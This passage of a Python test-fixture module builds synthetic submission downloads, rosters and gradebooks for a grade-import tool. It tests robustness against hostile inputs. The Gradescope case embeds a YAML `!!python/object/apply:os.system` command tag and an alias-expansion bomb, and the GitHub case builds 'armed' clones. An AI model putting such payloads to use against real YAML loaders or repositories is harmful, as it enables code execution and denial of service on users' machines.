            [person.last_first, str(person.number), sis, login, sections.format(person.section)]
            + [cells.get(c, "75.00") for c in columns]
        )
        if person in strangers:
            untouched.append(record)
        elif person not in again or person.id not in rows:
            rows[person.id] = record
            named.setdefault(person.last_first, []).append(person.id)
    writer.writerow(
        ["Student, Test", "99999", "", hashlib.sha256(b"test").hexdigest()[:40], "1"]
        + [""] * len(columns)
    )
    untouched.append(record + 1)
    ambiguous = {n: tuple(ids) for n, ids in named.items() if names_only and len(ids) > 1}
    for ids in ambiguous.values():
        for each in ids:
            untouched.append(rows.pop(each))
    whole = (b"\xef\xbb\xbf" if bom else b"") + stream.getvalue().encode()
    path = folder / f"{name}.csv"
    path.write_bytes(whole)
    return Sheet(
        path=path.name, kind="canvas", rows=rows, grade=assignment, points=points,
        strangers=tuple(p.last_first for p in strangers), missing=tuple(p.id for p in without),
        ambiguous=ambiguous, old=dict(old), read_only=tuple(read_only),
        untouched=tuple(sorted(untouched)), error="twice" if again else "", bom=bom,
        delimiter=delimiter, sha256=_digest(whole),
    )  # fmt: skip


def moodle_worksheet(
    folder: Path,
    people: Sequence[Person],
    *,
    name: str = "moodle",
    points: float = 7,
    newer: bool = False,
    bom: bool = True,
    end: str = "\r\n",
    strangers: Sequence[Person] = (),
    without: Sequence[Person] = (),
    again: Sequence[Person] = (),
    old: Mapping[str, str] | None = None,
    closed: Sequence[Person] = (),
    no_email: bool = False,
    no_feedback: bool = False,
    comma: bool = False,
) -> Sheet:
    """The grading worksheet of Moodle: `Identifier` is `Participant <number>`.

    `newer` has the columns of newer versions, among them the id number, and `Maximum grade` with a
    small g. `comma`: decimals are written with a comma.
    """
    heads = ["Identifier", "Full name", "Email address", "Status", "Grade", "Maximum Grade"]
    heads += ["Grade can be changed", "Last modified (submission)", "Online text"]
    heads += ["Last modified (grade)", "Feedback comments"]
    if newer:
        heads = [
            "Identifier",
            "Full name",
            "ID number",
            "Email address",
            "Status",
            "Group",
            "Marker",
        ]
        heads += ["Grade", "Maximum grade", "Marking workflow state", "Grade can be changed"]
        heads += ["Last modified (submission)", "Last modified (grade)", "Feedback comments"]
    if no_email:
        heads.remove("Email address")
    if no_feedback:
        heads.remove("Feedback comments")
    old = old or {}
    absent = {person.id for person in without}
    stream = io.StringIO()
    writer = csv.DictWriter(stream, heads, extrasaction="ignore", lineterminator=end)
    writer.writeheader()
    rows: dict[str, int] = {}
    named: dict[str, list[str]] = {}
    untouched: list[int] = []
    record = 1
    for person in [*people, *strangers, *again]:
        if person.id in absent:
            continue
        record += 1
        most, grade = f"{points:.2f}", old.get(person.id, "")
        if comma:
            most, grade = most.replace(".", ","), grade.replace(".", ",")
        stamp = "Monday, 9 March 2026, 2:14 PM"
        writer.writerow(
            {
                "Identifier": f"Participant {person.number}",
                "Full name": person.name,
                "ID number": person.id,
                "Email address": person.email,
                "Status": "Submitted for grading - ",
                "Group": f"Group {person.section}",
                "Grade": grade,
                "Maximum Grade": most,
                "Maximum grade": most,
                "Marking workflow state": "In marking",
                "Grade can be changed": "No" if person in closed else "Yes",
                "Last modified (submission)": stamp,
                "Last modified (grade)": stamp if grade else "-",
                "Feedback comments": 'Well done,\nbut "why"? See page 2, line 1.' if grade else "",
            }
        )
        if person in strangers:
            untouched.append(record)
        elif person not in again or person.id not in rows:
            rows[person.id] = record
            named.setdefault(person.name, []).append(person.id)
    ambiguous = {
        n: tuple(ids) for n, ids in named.items() if no_email and not newer and len(ids) > 1
    }
    for ids in ambiguous.values():
        for each in ids:
            untouched.append(rows.pop(each))
    whole = (b"\xef\xbb\xbf" if bom else b"") + stream.getvalue().encode()
    path = folder / f"{name}.csv"
    path.write_bytes(whole)
    error = "twice" if again else "no_feedback" if no_feedback else ""
    return Sheet(
        path=path.name, kind="moodle", rows=rows, grade="Grade", points=points,
        feedback="" if no_feedback else "Feedback comments",
        strangers=tuple(p.name for p in strangers), missing=tuple(p.id for p in without),
        ambiguous=ambiguous, old=dict(old), closed=tuple(p.id for p in closed),
        untouched=tuple(sorted(untouched)), error=error, bom=bom, end=end, sha256=_digest(whole),
    )  # fmt: skip


def _digest(body: bytes) -> str:
    return hashlib.sha256(body).hexdigest()


# --- What is to be found ---------------------------------------------------------------------


@dataclass(frozen=True)
class Due:
    """One attempt that is to be found: its variant, when and how late, the sum of each file.

    `late` and `at` are None where the download does not tell. Litter may lie beside `files`. They
    are empty where there is trouble: what of a spoiled hand-in is read is left open.
    """

    variant: str
    files: dict[str, str]
    late: bool | None
    at: str | None
    trouble: str = ""


@dataclass(frozen=True)
class Expected:
    """What is to be read out of a case, as plain data (`as_data`).

    Students are named by their id on the roster, or by their entry where there is none.
    """

    layout: str
    """canvas, moodle, gradescope, github, nbgrader or folders."""
    told: bool = True
    """Whether the layout can be told without `--from`."""
    attempts: dict[str, tuple[Due, ...]] = field(default_factory=dict)
    """Student → attempts, the oldest first: the last one is the latest."""
    entries: dict[str, tuple[str, ...]] = field(default_factory=dict)
    """Student → folders or files of the download that are theirs."""
    nothing: tuple[str, ...] = ()
    """On the roster, and nothing handed in: they stand in the gradebook nevertheless."""
    unmatched: tuple[str, ...] = ()
    """Entries of nobody on the roster: listed, not dropped, not guessed."""
    ambiguous: dict[str, tuple[str, ...]] = field(default_factory=dict)
    """Entry → students whose it may be: listed, and given to none of them."""
    exact_or_ambiguous: dict[str, tuple[str, ...]] = field(default_factory=dict)
    """Entry → students; it is the first one's by an exact comparison. Given to them or listed."""
    twice: dict[str, tuple[str, ...]] = field(default_factory=dict)
    """Student → entries without an order in time: kept as attempts, and listed."""
    doubled: tuple[str, ...] = ()
    """Ids that stand twice on the roster: listed, and one student each."""
    groups: tuple[tuple[str, ...], ...] = ()
    """Students who share one submission."""
    troubled: dict[str, str] = field(default_factory=dict)
    """Student → what is wrong (`SPOILED`): refused with a sentence, or graded by what is sound."""
    ignored: tuple[str, ...] = ()
    """Entries that are no submissions, and no problem either."""
    never: tuple[str, ...] = ()
    """Names of files that must not exist anywhere afterwards."""
    raw: tuple[str, ...] = ()
    """Characters or words that must not reach a terminal as they are."""
    formulas: tuple[str, ...] = ()
    """Cells that are no numbers must not begin like this in any CSV that is written anew.

    Identity cells of a platform's own file are an exception: they go back as they came.
    """
    columns: dict[str, dict[str, str]] = field(default_factory=dict)
    """Student → other columns of the roster, which are kept."""
    refused: str = ""
    """Why the whole download is to be refused, with a sentence; otherwise empty.

    "may": it may be refused as a whole, or read as the rest of this says.
    """

    def as_data(self) -> dict[str, Any]:
        """Dictionaries, lists, texts and numbers, as JSON knows them."""
        data: dict[str, Any] = json.loads(json.dumps(asdict(self)))
        return data


@dataclass(frozen=True)
class Built:
    """A case that has been written: where its parts are, and what is to be found."""

    folder: Path
    downloads: tuple[Path, ...]
    roster: Path | None
    expected: Expected
    people: tuple[Person, ...]
    sheets: dict[str, Sheet] = field(default_factory=dict)
    rosters: dict[str, Path] = field(default_factory=dict)
    """Further rosters, all of which say the same about the same people."""
    bad_rosters: dict[str, tuple[Path, str]] = field(default_factory=dict)
    """Rosters that are to be refused, and what is wrong with each."""


@dataclass(frozen=True)
class Case:
    """A named case. `students` is about how many hand in."""

    name: str
    layout: str
    about: str
    seed: int
    students: int
    make: Callable[[Path, Contents, random.Random, int], Built]

    def build(self, folder: Path, contents: Contents = TOY) -> Built:
        """Writes the case into an empty folder."""
        folder.mkdir(parents=True, exist_ok=True)
        return self.make(folder, contents, random.Random(self.seed), self.students)  # noqa: S311


# --- People ----------------------------------------------------------------------------------

_GIVEN = (
    "Ada", "Björn", "Chloé", "Dmitri", "Emel", "François", "Grace", "Håkon", "Inés", "Jürgen",
    "Katarzyna", "Lê", "Marie-Claire", "Noël", "Oisín", "Priya", "Quentin", "Renée", "Søren",
    "Tomáš", "Uğur", "Véronique", "Wenjing", "Xenia", "Yuki", "Zoë", "Ángel", "Łukasz", "Ștefan",
    "Þóra",
)  # fmt: skip
_FAMILY = (
    "Lovelace", "O'Brien", "Müller", "van der Berg", "D'Angelo", "Núñez", "Straße", "Smith-Jones",
    "Nguyễn", "Åström", "Kowalczyk", "de la Cruz", "Øverland", "Çelik", "McDonald", "Yılmaz",
    "Ní Bhriain", "Petrović", "Szabó", "Dvořák", "Æbelø", "Østergård", "Gödel", "Hernández",
    "Ivanova", "Jóhannsdóttir", "Kaya", "Lindqvist", "Martín", "Novák",
)  # fmt: skip


def a_class(count: int, rng: random.Random, *, begin: int = 1) -> list[Person]:
    """So many students, no two of whom can be confused by name, login, e-mail or id.

    Ids begin with zeros. Names hold umlauts, apostrophes, hyphens and spaces.
    """
    pairs = [(given, family) for given in _GIVEN for family in _FAMILY]
    rng.shuffle(pairs)
    people: list[Person] = []
    taken: set[str] = set()
    for given, family in pairs:
        keys = {folded(given + family), folded(family + given)}
        if len(people) == count:
            break
        if keys & taken:
            continue
        taken |= keys
        number = begin + len(people)
        login = f"{folded(given)[:6]}{folded(family)[:3]}{number}"
        mail = f"{login}@Students.uni.example" if number % 7 == 0 else f"{login}@uni.example"
        people.append(
            Person(
                f"{1000 + 3 * number:07d}",
                given,
                family,
                login,
                mail,
                str(1 + number % 3),
                52000 + 11 * number,
            )
        )
    return people


_LETTERS = str.maketrans({"ß": "ss", "ø": "o", "æ": "ae", "ł": "l", "ı": "i", "þ": "th", "ð": "d"})


def folded(text: str) -> str:
    """Small letters of ASCII and digits: what is left of a name when all else is ignored."""
    flat = unicodedata.normalize("NFKD", text.lower().translate(_LETTERS))
    return re.sub(r"[^a-z0-9]", "", flat)


def _person(
    id_: str, given: str, family: str, login: str, number: int, section: str = "1"
) -> Person:
    return Person(id_, given, family, login, f"{login}@uni.example", section, number)


def _handed(
    people: Iterable[Person],
    contents: Contents,
    rng: random.Random,
    *,
    spoils: Sequence[str] = (),
    several: int = 0,
    enrolled: bool = True,
) -> list[HandIn]:
    """One hand-in each: the first few spoiled, the next few with two or three attempts."""
    variants = sorted(contents.variants)
    found = []
    for index, person in enumerate(people):
        spoiled = spoils[index] if index < len(spoils) else ""
        many = 2 + index % 2 if len(spoils) <= index < len(spoils) + several else 1
        at = BEGIN + timedelta(minutes=rng.randrange(60 * 24 * 7))
        attempts = []
        for number in range(1, many + 1):
            variant = rng.choice(variants)
            attempts.append(
                Attempt(contents.files(variant, person.id, number), at, variant, spoiled)
            )
            at += timedelta(minutes=rng.randrange(20, 900))
        if index % 9 == 4:
            attempts[-1] = replace(
                attempts[-1], at=DEADLINE + timedelta(minutes=rng.randrange(1, 3000))
            )
        found.append(HandIn((person,), tuple(attempts), enrolled))
    return found


def _due(attempt: Attempt, *, late: bool, at: bool) -> Due:
    files = {name: _digest(body) for name, body in attempt.files.items()}
    trouble = "" if attempt.spoiled in HARMLESS else attempt.spoiled
    if trouble == "empty_files":
        files = dict.fromkeys(files, _digest(b""))
    elif trouble:
        files = {}
    return Due(
        "" if trouble else attempt.variant,
        files,
        attempt.late if late else None,
        attempt.at.isoformat() if at else None,
        trouble,
    )


_KEEPS_ALL = {"canvas", "gradescope"}
_TELLS_LATE = {"canvas", "gradescope", "github", "nbgrader"}
_TELLS_TIME = {"gradescope", "github", "nbgrader"}


def expect(
    layout: str,
    handed_in: Sequence[HandIn],
    downloads: Download | Sequence[Download],
    enrolled: Sequence[Person],
    *,
    timed: bool = True,
    **more: Any,
) -> Expected:
    """What is to be found where all hand-ins of people on the roster match, and no others."""
    several = [downloads] if isinstance(downloads, Download) else list(downloads)
    attempts: dict[str, tuple[Due, ...]] = {}
    entries: dict[str, tuple[str, ...]] = {}
    unmatched: list[str] = []
    groups: list[tuple[str, ...]] = []
    troubled: dict[str, str] = {}
    never: list[str] = []
    for index, hand in enumerate(handed_in):
        names = tuple(name for each in several for name in each.entries[index])
        for person in hand.people:
            never += forbidden_names(hand.last.spoiled, person.id)
        if not hand.enrolled:
            unmatched += names
            continue
        kept = hand.attempts if layout in _KEEPS_ALL else hand.attempts[-1:]
        if len(several) == 1 and several[0].kept:
            kept = kept[-several[0].kept[index] :]
        due = tuple(
            _due(a, late=timed and layout in _TELLS_LATE, at=timed and layout in _TELLS_TIME)
            for a in kept
        )
        for person in hand.people:
            attempts[person.id], entries[person.id] = due, names
            if due[-1].trouble:
                troubled[person.id] = due[-1].trouble
        if len(hand.people) > 1:
            groups.append(tuple(person.id for person in hand.people))
    found: dict[str, Any] = {
        "attempts": attempts, "entries": entries, "unmatched": tuple(unmatched),
        "nothing": tuple(p.id for p in enrolled if p.id not in attempts),
        "groups": tuple(groups), "troubled": troubled, "never": tuple(never),
        "ignored": tuple(name for each in several for name in each.ignored),
    }  # fmt: skip
    return Expected(layout, **(found | more))


def _finish(
    folder: Path,
    downloads: Sequence[Path],
    people: Sequence[Person],
    expected: Expected,
    *,
    roster_bytes: bytes | None = None,
    sheets: Mapping[str, Sheet] | None = None,
) -> Built:
    path = folder / "roster.csv"
    path.write_bytes(roster(people) if roster_bytes is None else roster_bytes)
    return Built(folder, tuple(downloads), path, expected, tuple(people), dict(sheets or {}))


@dataclass(frozen=True)
class _Class:
    """The people of a usual case: who hands in, who does not, and who is not on the roster."""

    enrolled: list[Person]
    handed_in: list[HandIn]
    namesakes: list[Person]


def _usual(
    contents: Contents,
    rng: random.Random,
    count: int,
    *,
    spoils: Sequence[str],
    several: int = 0,
    namesakes: bool = False,
    pairs: int = 0,
) -> _Class:
    """`count` hand-ins, some spoiled, some repeated; two strangers; some people hand in nothing."""
    idle = 1 + count // 60
    everybody = a_class(count + idle + pairs + 2, rng)
    strangers, active = everybody[:2], everybody[2 : count + 2]
    absent, partners = everybody[count + 2 : count + 2 + idle], everybody[count + 2 + idle :]
    handed_in = _handed(active, contents, rng, spoils=spoils, several=several)
    for index, partner in enumerate(partners):
        handed_in[-1 - index] = replace(
            handed_in[-1 - index], people=(handed_in[-1 - index].first, partner)
        )
    handed_in += _handed(strangers, contents, rng, enrolled=False)
    same: list[Person] = []
    if namesakes:
        same = [_person(f"00900{n}", "Kim", "Lee", f"klee{n}", 88000 + n, str(n)) for n in (1, 2)]
        handed_in += _handed(same, contents, rng)
    enrolled = [*active, *absent, *partners, *same]
    rng.shuffle(enrolled)
    rng.shuffle(handed_in)
    return _Class(enrolled, handed_in, same)


def _set_apart(usual: _Class, expected: Expected, download: Download) -> Expected:
    """Moves the namesakes from the matched to the ambiguous ones."""
    ids = tuple(person.id for person in usual.namesakes)
    listed = {
        name: ids
        for hand, names in zip(usual.handed_in, download.entries, strict=True)
        if hand.first.id in ids
        for name in names
    }
    return replace(
        expected,
        attempts={k: v for k, v in expected.attempts.items() if k not in ids},
        entries={k: v for k, v in expected.entries.items() if k not in ids},
        troubled={k: v for k, v in expected.troubled.items() if k not in ids},
        nothing=expected.nothing + ids,
        ambiguous=listed,
    )


# --- Usual cases, small and large --------------------------------------------------------------

Make = Callable[[Path, Contents, random.Random, int], Built]


def _spoils(count: int, kinds: Sequence[str]) -> Sequence[str]:
    """All kinds among 200; in small classes two of the harmless ones."""
    return kinds if count >= 100 else ("macosx", "nested")


def _several(count: int) -> int:
    return 12 if count >= 100 else 1


def _make_canvas(*, as_zip: bool, singly: bool = False) -> Make:
    def make(folder: Path, contents: Contents, rng: random.Random, count: int) -> Built:
        kinds: Sequence[str] = ("empty_files", "ds_store") if singly else IN_ZIPS
        spoils = _spoils(count, kinds)
        if singly and count < 100:
            spoils = ("empty_files",)
        usual = _usual(contents, rng, count, spoils=spoils, several=_several(count), namesakes=True)
        idle = [p for p in usual.enrolled if all(p not in h.people for h in usual.handed_in)]
        made = canvas(usual.handed_in, contents.assignment, singly=lambda i: singly, texts=idle[:1])
        expected = _set_apart(usual, expect("canvas", usual.handed_in, made, usual.enrolled), made)
        path = made.write(folder, "submissions", as_zip=as_zip)
        sheets = {
            "plain": canvas_gradebook(folder, usual.enrolled),
            "blank_row": canvas_gradebook(folder, usual.enrolled, name="blank_row", above="blank"),
        }
        return _finish(folder, [path], usual.enrolled, expected, sheets=sheets)

    return make


def _make_moodle(
    *, as_zip: bool, inside: str = "zip", ending: str = "_", flat: bool = False
) -> Make:
    def make(folder: Path, contents: Contents, rng: random.Random, count: int) -> Built:
        kinds: Sequence[str] = IN_ZIPS
        if inside == "files":
            kinds = IN_ZIPPED_FOLDERS if as_zip else IN_FOLDERS
        if flat and inside == "files":
            kinds = ("empty_files",)
        spoils = kinds if count >= 100 or flat else _spoils(count, kinds)
        usual = _usual(contents, rng, count, spoils=spoils, several=_several(count), namesakes=True)
        idle = [p for p in usual.enrolled if all(p not in h.people for h in usual.handed_in)]
        texts = [*idle[:1], usual.handed_in[0].first]
        made = moodle(
            usual.handed_in, contents.assignment, inside=lambda i: inside, ending=ending, flat=flat,
            texts=texts,
        )  # fmt: skip
        expected = _set_apart(usual, expect("moodle", usual.handed_in, made, usual.enrolled), made)
        path = made.write(folder, "Course 1-Counting-4711", as_zip=as_zip)
        sheets = {
            "plain": moodle_worksheet(folder, usual.enrolled),
            "newer": moodle_worksheet(folder, usual.enrolled, name="newer", newer=True),
        }
        return _finish(folder, [path], usual.enrolled, expected, sheets=sheets)

    return make


def _make_gradescope(*, as_zip: bool, ruby_objects: bool = False) -> Make:
    def make(folder: Path, contents: Contents, rng: random.Random, count: int) -> Built:
        kinds = IN_ZIPPED_FOLDERS if as_zip else IN_FOLDERS
        pairs = 15 if count >= 100 else 1
        usual = _usual(
            contents,
            rng,
            count,
            spoils=_spoils(count, kinds),
            several=_several(count),
            pairs=pairs,
            namesakes=True,
        )
        made = gradescope(usual.handed_in, ruby_objects=ruby_objects)
        expected = expect("gradescope", usual.handed_in, made, usual.enrolled)
        path = made.write(folder, "export", as_zip=as_zip)
        return _finish(folder, [path], usual.enrolled, expected)

    return make


def _make_github(*, classroom_50: bool) -> Make:
    def make(folder: Path, contents: Contents, rng: random.Random, count: int) -> Built:
        usual = _usual(
            contents, rng, count, spoils=_spoils(count, IN_FOLDERS[1:]), several=_several(count),
            namesakes=True,
        )  # fmt: skip
        capital = {h.first.id for n, h in enumerate(usual.handed_in) if n % 5 == 0}
        made = github(
            usual.handed_in, contents.assignment, classroom_50=classroom_50,
            login_of=lambda p: p.login.title() if p.id in capital else p.login,
            with_git=lambda i: i % 11 != 5,
        )  # fmt: skip
        expected = expect("github", usual.handed_in, made, usual.enrolled)
        expected = replace(
            expected,
            attempts={
                k: tuple(replace(d, late=None, at=None) for d in v)
                for k, v in expected.attempts.items()
            },
        )
        path = made.write(folder, f"{contents.assignment}-submissions")
        return _finish(folder, [path], usual.enrolled, expected)

    return make


def _make_nbgrader(*, timestamps: bool, top: str = "submitted", inner: bool = False) -> Make:
    def make(folder: Path, contents: Contents, rng: random.Random, count: int) -> Built:
        kinds = [k for k in IN_FOLDERS if k != "empty_folder" or not timestamps]
        usual = _usual(contents, rng, count, spoils=_spoils(count, kinds), namesakes=True)
        made = nbgrader(
            usual.handed_in,
            contents.assignment,
            timestamps=timestamps,
            other_assignment="ps2",
            top=top,
        )
        expected = expect("nbgrader", usual.handed_in, made, usual.enrolled, timed=timestamps)
        path = made.write(folder, "course")
        return _finish(folder, [path / top if inner else path], usual.enrolled, expected)

    return make


def _make_folders(*, as_zip: bool) -> Make:
    def make(folder: Path, contents: Contents, rng: random.Random, count: int) -> Built:
        def zips(index: int) -> bool:
            return usual.handed_in[index].last.spoiled in zip_kinds or (
                usual.handed_in[index].last.spoiled not in folder_kinds and index % 3 == 0
            )

        def named(index: int, person: Person) -> str:
            return NAMED_AFTER[index % len(NAMED_AFTER)](person)

        zip_kinds = set(IN_ZIPS) - set(IN_FOLDERS)
        folder_kinds = set() if as_zip else set(IN_FOLDERS) - set(IN_ZIPS)
        kinds = [*sorted(zip_kinds), *sorted(folder_kinds)]
        usual = _usual(contents, rng, count, spoils=_spoils(count, kinds))
        made = folders(usual.handed_in, contents.assignment, name_of=named, as_zips=zips)
        expected = expect("folders", usual.handed_in, made, usual.enrolled)
        path = made.write(folder, "from the stick", as_zip=as_zip)
        return _finish(folder, [path], usual.enrolled, expected)

    return make


def _make_single_files(folder: Path, contents: Contents, rng: random.Random, count: int) -> Built:
    usual = _usual(contents, rng, count, spoils=("empty_files",), namesakes=True)
    made = single_files(usual.handed_in, name_of=lambda i, p: p.login if i % 2 else p.id)
    expected = expect("folders", usual.handed_in, made, usual.enrolled, told=False)
    path = made.write(folder, "uploads")
    return _finish(folder, [path], usual.enrolled, expected)


# --- Cases with one thing in view --------------------------------------------------------------


def _spoiled(where: str) -> Make:
    """Each way in which a hand-in may be spoiled, and one sound hand-in after all of them."""

    def make(folder: Path, contents: Contents, rng: random.Random, count: int) -> Built:
        kinds = IN_ZIPS if where == "zips" else IN_FOLDERS
        people = a_class(len(kinds) + 1, rng)
        handed_in = _handed(people, contents, rng, spoils=kinds)
        inside = "zip" if where == "zips" else "files"
        made = moodle(handed_in, contents.assignment, inside=lambda i: inside)
        expected = expect("moodle", handed_in, made, people)
        path = made.write(folder, "download")
        return _finish(folder, [path], people, expected)

    return make


def _canvas_names(folder: Path, contents: Contents, rng: random.Random, count: int) -> Built:
    """Names that look like parts of Canvas's own file names."""
    people = [
        _person("0001", "Ann", "Lee", "alee", 101),
        _person("0002", "Eann", "Le", "ele", 102),
        _person("0003", "Ida", "Late", "ilate", 103),
        _person("0004", "Jo", "van_der_Berg", "jvdb", 104),
        _person("0005", "Max 2", "Meier", "mmeier", 105),
        _person("0006", "Conor", "O'Brien", "cobrien", 106),
        _person("0007", "Zoë", "Gödel", "zgoedel", 107),
    ]
    handed_in = _handed(people, contents, rng)
    handed_in[2] = replace(handed_in[2], attempts=(replace(handed_in[2].last, at=BEGIN),))
    handed_in[3] = replace(
        handed_in[3], attempts=(replace(handed_in[3].last, at=DEADLINE + timedelta(hours=2)),)
    )
    made = canvas(handed_in, contents.assignment, singly=lambda i: i % 2 == 1)
    expected = expect("canvas", handed_in, made, people)
    expected = _set_apart(_Class(people, handed_in, people[:2]), expected, made)
    return _finish(folder, [made.write(folder, "submissions", as_zip=True)], people, expected)


def _canvas_mixed(folder: Path, contents: Contents, rng: random.Random, count: int) -> Built:
    """Some upload a zip, some file by file; one replaces all files, and Canvas says `-1`, `-2`."""
    people = a_class(count, rng)
    handed_in = _handed(people, contents, rng, several=3)
    made = canvas(handed_in, contents.assignment, singly=lambda i: i % 2 == 0)
    expected = expect("canvas", handed_in, made, people)
    return _finish(folder, [made.write(folder, "submissions")], people, expected)


def _canvas_one_file_again(
    folder: Path, contents: Contents, rng: random.Random, count: int
) -> Built:
    """The latest attempt only, as Canvas gives it: one file of it has been uploaded before."""
    people = a_class(count, rng)
    handed_in = _handed(people, contents, rng)
    made = canvas(handed_in, contents.assignment, singly=lambda i: True)
    old = next(name for name in made.entries[0] if name.endswith(".py"))
    new = re.sub(r"\.py$", "-1.py", old)
    tree: Tree = {new if name == old else name: body for name, body in made.tree.items()}
    entries = (tuple(new if name == old else name for name in made.entries[0]), *made.entries[1:])
    made = replace(made, tree=tree, entries=entries)
    expected = expect("canvas", handed_in, made, people)
    return _finish(folder, [made.write(folder, "submissions", as_zip=True)], people, expected)


def _canvas_anonymous(folder: Path, contents: Contents, rng: random.Random, count: int) -> Built:
    """Names are hidden: nobody can be matched, and nobody is guessed."""
    people = a_class(count, rng)
    handed_in = [replace(h, enrolled=False) for h in _handed(people, contents, rng)]
    made = canvas(handed_in, contents.assignment, anonymous=True)
    expected = expect("canvas", handed_in, made, people)
    return _finish(folder, [made.write(folder, "submissions", as_zip=True)], people, expected)


def _two_downloads(folder: Path, contents: Contents, rng: random.Random, count: int) -> Built:
    """Downloaded in the week and after the deadline: the second knows newer attempts.

    Who did not hand in again is in both downloads with the same bytes: that is one attempt.
    """
    people = a_class(count, rng)
    handed_in = _handed(people, contents, rng, several=count // 2)
    early = [replace(hand, attempts=hand.attempts[:1]) for hand in handed_in]
    first = canvas(early, contents.assignment)
    second = canvas(handed_in, contents.assignment, all_attempts=False, upload=800001)
    entries = list(second.entries)
    for index, hand in enumerate(handed_in):
        if len(hand.attempts) == 1:  # the same upload keeps its number
            (before,), (after,) = first.entries[index], entries[index]
            second.tree[before] = second.tree.pop(after)
            entries[index] = (before,)
    second = replace(second, entries=tuple(entries))
    seen = [
        replace(hand, attempts=(hand.attempts[0], hand.last)[: len(hand.attempts)])
        for hand in handed_in
    ]
    expected = expect("canvas", seen, [first, second], people)
    once = {student: tuple(dict.fromkeys(names)) for student, names in expected.entries.items()}
    expected = replace(expected, entries=once)
    paths = [first.write(folder, "week", as_zip=True), second.write(folder, "end", as_zip=True)]
    return _finish(folder, paths, people, expected)


def _moodle_names(folder: Path, contents: Contents, rng: random.Random, count: int) -> Built:
    """Umlauts composed and decomposed, apostrophes that Moodle drops, underscores, digits."""
    people = [
        _person("01", "Jürgen", "Müller", "jm", 201),
        _person("02", "Sinéad", "O'Connor", "so", 202),
        _person("03", "Sinead", "Öconnor", "so2", 203),
        _person("04", "Ana_Maria", "da Silva", "ams", 204),
        _person("05", "Max", "Meier 3", "mm3", 205),
        _person("06", "李", "小龍", "lxl", 206),
        _person("07", "Ольга", "Иванова", "oi", 207),
    ]
    handed_in = _handed(people, contents, rng)
    made = moodle(
        handed_in, contents.assignment, ending="",
        name_of=lambda p: unicodedata.normalize("NFD", moodle_name(p)),
    )  # fmt: skip
    expected = expect("moodle", handed_in, made, people)
    expected = replace(
        expected,
        exact_or_ambiguous={made.entries[i][0]: (people[i].id, people[3 - i].id) for i in (1, 2)},
    )
    return _finish(folder, [made.write(folder, "download", as_zip=True)], people, expected)


def _moodle_blind(folder: Path, contents: Contents, rng: random.Random, count: int) -> Built:
    """Blind marking: all are called Participant, and only the worksheet knows the numbers."""
    people = a_class(count, rng)
    handed_in = [replace(h, enrolled=False) for h in _handed(people, contents, rng)]
    made = moodle(handed_in, contents.assignment, blind=True)
    expected = expect("moodle", handed_in, made, people)
    return _finish(folder, [made.write(folder, "download")], people, expected)


def _moodle_groups(folder: Path, contents: Contents, rng: random.Random, count: int) -> Built:
    """The name of the group stands before the name of the student."""
    people = a_class(count, rng)
    handed_in = _handed(people, contents, rng)
    made = moodle(handed_in, contents.assignment, group="Group 2-")
    names = {name: (handed_in[i].first.id,) for i, (name,) in enumerate(made.entries)}
    expected = expect("moodle", handed_in, made, people, exact_or_ambiguous=names)
    return _finish(folder, [made.write(folder, "download")], people, expected)


def _gradescope_hostile(folder: Path, contents: Contents, rng: random.Random, count: int) -> Built:
    """Tags of Python in the table, aliases that multiply, a submission that has no folder."""
    people = a_class(4, rng)
    handed_in = _handed(people[:3], contents, rng)
    hidden = '"run me": !!python/object/apply:os.system ["touch run-by-yaml"]\n'
    lines = "".join(f"b{n}: &b{n} [{', '.join([f'*b{n - 1}'] * 9)}]\n" for n in range(1, 9))
    made = gradescope(handed_in, before="---\n" + hidden + "b0: &b0 [x]\n" + lines)
    lost = (
        "submission_666:\n  :submitters:\n"
        + f"  - :name: {people[3].name}\n    :sid: '{people[3].id}'\n"
    )
    table = "assignment_4711_export/submission_metadata.yml"
    body = made.tree[table]
    made.tree[table] = (body if isinstance(body, bytes) else b"") + lost.encode()
    expected = expect("gradescope", handed_in, made, people, never=("run-by-yaml",))
    expected = replace(expected, troubled={people[3].id: "no_folder"}, refused="may")
    return _finish(folder, [made.write(folder, "export")], people, expected)


def _gradescope_two_groups(
    folder: Path, contents: Contents, rng: random.Random, count: int
) -> Built:
    """Groups of two and three; one student is in both: the later submission is the latest."""
    people = a_class(6, rng)
    one, two = _handed([people[0], people[2]], contents, rng)
    one = HandIn((people[0], people[1]), (replace(one.last, at=BEGIN),))
    two = HandIn(
        (people[2], people[3], people[1]), (replace(two.last, at=BEGIN + timedelta(days=1)),)
    )
    made = gradescope([two, one], with_sid=lambda p: p is not people[3])
    expected = expect("gradescope", [two, one], made, people)
    both = (_due(one.last, late=True, at=True), _due(two.last, late=True, at=True))
    entries = (*made.entries[1], *made.entries[0])
    expected = replace(
        expected,
        attempts=expected.attempts | {people[1].id: both},
        entries=expected.entries | {people[1].id: entries},
    )
    return _finish(folder, [made.write(folder, "export", as_zip=True)], people, expected)


def _github_logins(folder: Path, contents: Contents, rng: random.Random, count: int) -> Built:
    """Logins that end like others, capitals, a team, a repository made twice; armed clones."""
    people = [
        _person("0001", "Ada", "Byron", "ada", 1),
        _person("0002", "Ada", "Lovelace", "lovelace-ada", 2),
        _person("0003", "Bo", "Chen", "BoChen", 3),
        _person("0004", "Cy", "Dee", f"{contents.assignment}-cy", 4),
        _person("0005", "Di", "Eck", "di-1", 5),
        _person("0006", "Flo", "Gray", "flo", 6),
    ]
    handed_in = _handed(people, contents, rng)
    other = [_person("x", "", "", "team-blue", 9), _person("y", "", "", "ada-1", 10)]
    handed_in += _handed(other, contents, rng, enrolled=False)
    made = github(
        handed_in,
        contents.assignment,
        login_of=lambda p: p.login.lower(),
        armed=lambda i: i in (0, 5),
    )
    never = tuple(f"run-by-git-{people[i].id}" for i in (0, 5))
    expected = expect("github", handed_in, made, people, never=never, timed=False)
    return _finish(folder, [made.write(folder, "clones")], people, expected)


def _twice_by_name(folder: Path, contents: Contents, rng: random.Random, count: int) -> Built:
    """One student has a folder and a zip; nothing says which came last."""
    people = a_class(4, rng)
    handed_in = _handed([*people[:3], people[0]], contents, rng)
    handed_in[3] = replace(
        handed_in[3],
        attempts=(
            replace(
                handed_in[3].last,
                files=contents.files(
                    "right" if "right" in contents.variants else min(contents.variants),
                    people[0].id,
                    2,
                ),
            ),
        ),
    )
    names = [people[0].name, people[1].name, people[2].name, people[0].last_first]
    made = folders(
        handed_in, contents.assignment, name_of=lambda i, p: names[i], as_zips=lambda i: i == 3
    )
    expected = expect("folders", handed_in, made, people)
    entries = (*made.entries[0], *made.entries[3])
    both = tuple(_due(handed_in[i].last, late=False, at=False) for i in (0, 3))
    expected = replace(
